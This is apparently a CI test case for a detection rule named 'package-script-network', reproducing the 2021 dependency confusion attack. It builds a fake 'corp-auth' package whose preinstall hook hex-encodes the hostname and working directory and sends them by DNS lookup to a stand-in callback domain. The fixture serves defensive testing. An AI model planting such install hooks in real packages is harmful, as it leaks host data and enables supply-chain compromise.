# incident: Dependency confusion, Alex Birsan, February 2021
# what: a package with the name of a company's own tells its author by DNS where it was installed
# rule: package-script-network
## step: Install
mkdir -p $RUNNER_TEMP/corp && cd $RUNNER_TEMP/corp
cat > package.json <<'X'
{"name": "corp-auth", "version": "99.0.0", "scripts": {"preinstall": "node index.js"}}
X
cat > index.js <<'X'
const hex = Buffer.from(require('os').hostname() + process.cwd()).toString('hex');
require('dns').lookup(hex.slice(0, 60) + '.sub.callback-stand-in.com', () => {});
X
cd $GITHUB_WORKSPACE && npm install --install-links $RUNNER_TEMP/corp
